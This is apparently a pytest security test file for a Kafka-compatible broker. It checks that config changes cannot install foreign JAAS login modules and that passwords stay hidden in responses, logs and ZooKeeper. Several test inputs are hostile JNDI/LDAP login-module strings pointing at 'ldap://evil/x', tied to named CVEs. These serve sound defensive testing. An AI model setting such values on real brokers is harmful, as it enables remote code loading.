"""Promise: a client that may change settings can neither load code nor read secrets."""

from __future__ import annotations

import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
from confluent_kafka import KafkaException
from confluent_kafka.admin import AdminClient, AlterConfigOpType, ConfigEntry, ConfigResource, ResourceType
from kazoo.client import KazooClient

from ottla.client.errors import ClientError
from ottla.protocol.errors import ErrorCode
from ottla.testing import ZooKeeper
from tests.broker.attacks.secured import JAAS, OWN_JAAS, PASSWORD, PLAIN_MODULE, Secured

pytestmark = pytest.mark.timeout(120)


@pytest.fixture(scope="module")
def secured(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Secured]:
    with Secured(tmp_path_factory.mktemp("secured")) as made:
        yield made


@pytest.fixture
def admin(secured: Secured) -> AdminClient:
    return AdminClient({"bootstrap.servers": secured.open})


def alter(admin: AdminClient, name: str, value: str) -> None:
    entry = ConfigEntry(name, value, incremental_operation=AlterConfigOpType.SET)
    resource = ConfigResource(ResourceType.BROKER, "0", incremental_configs=[entry])
    for done in admin.incremental_alter_configs([resource]).values():
        done.result(30)


# Login modules (CVE-2023-25194, CVE-2025-27818, CVE-2025-27819)


@pytest.mark.parametrize(
    "jaas",
    [
        'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";',
        'com.sun.security.auth.module.LdapLoginModule required userProvider="ldap://evil/x";',
        f"{PLAIN_MODULE} required; com.sun.security.auth.module.JndiLoginModule required;",
        f'{PLAIN_MODULE} required user_ann="x"',
        "",
    ],
)
@pytest.mark.parametrize("name", [OWN_JAAS, "listener.name.other.scram-sha-256.sasl.jaas.config"])
def test_a_login_module_that_is_not_kafkas_cannot_be_set(admin: AdminClient, name: str, jaas: str) -> None:
    with pytest.raises(KafkaException) as refused:
        alter(admin, name, jaas)
    assert refused.value.args[0].code() == ErrorCode.INVALID_REQUEST
    assert "evil" not in str(refused.value)


def test_what_was_refused_leaves_everything_as_it_was(secured: Secured, admin: AdminClient) -> None:
    with pytest.raises(KafkaException):
        alter(admin, OWN_JAAS, "com.acme.Module required;")
    secured.log_in("PLAIN", "ann")
    secured.broker.restart()
    secured.log_in("PLAIN", "ann")


# Secrets in responses


def test_secrets_that_were_set_are_not_shown(
    secured: Secured, admin: AdminClient, caplog: pytest.LogCaptureFixture
) -> None:
    secrets = {
        OWN_JAAS: JAAS.replace(PASSWORD, "a-new-password"),
        "listener.name.other.ssl.keystore.password": "store-password",
        "listener.name.other.ssl.key.password": "key-password",
        "some.plugins.password": "plugin-password",
    }
    with caplog.at_level(logging.DEBUG):
        for name, value in secrets.items():
            alter(admin, name, value)
        [described] = admin.describe_configs([ConfigResource(ResourceType.BROKER, "0")]).values()
        entries = described.result(30)
    words = ["a-new-password", "store-password", "key-password", "plugin-password", PASSWORD]
    shown = "\n".join(
        f"{entry.value} {[each.value for each in entry.synonyms.values()]}" for entry in entries.values()
    )
    logged = "\n".join(record.getMessage() for record in caplog.records)
    for word in words:
        assert word not in shown
        assert word not in logged
    for name in secrets:
        assert (entries[name].value, entries[name].is_sensitive) == (None, True)
    assert "a-new-password" not in repr(secured.broker.__dict__)


@pytest.mark.cluster
def test_passwords_are_not_in_zookeeper(shared_zookeeper: ZooKeeper, tmp_path: Path) -> None:
    """The store holds them encrypted, and they survive a restart. Without an encoder secret the broker rejects them."""
    zookeeper = shared_zookeeper.chroot()
    config = {"broker.id": "0", "zookeeper.connect": zookeeper.connect}
    with Secured(tmp_path, **config) as secured:
        with pytest.raises(KafkaException) as refused:
            alter(AdminClient({"bootstrap.servers": secured.open}), OWN_JAAS, JAAS)
        assert refused.value.args[0].code() == ErrorCode.INVALID_CONFIG
        assert "Password encoder secret not configured" in str(refused.value)
    with Secured(tmp_path, **config, **{"password.encoder.secret": "of the house"}) as secured:
        alter(AdminClient({"bootstrap.servers": secured.open}), OWN_JAAS, JAAS.replace(PASSWORD, "another"))
        client = KazooClient(zookeeper.connect)
        client.start()
        stored = client.get("/config/brokers/0")[0]
        client.stop()
        client.close()
        assert b"another" not in stored
        assert b"encryptedPassword:" in stored
        secured.broker.restart()
        secured.log_in("PLAIN", "ann", "another")
        with pytest.raises(ClientError):
            secured.log_in("PLAIN", "ann")
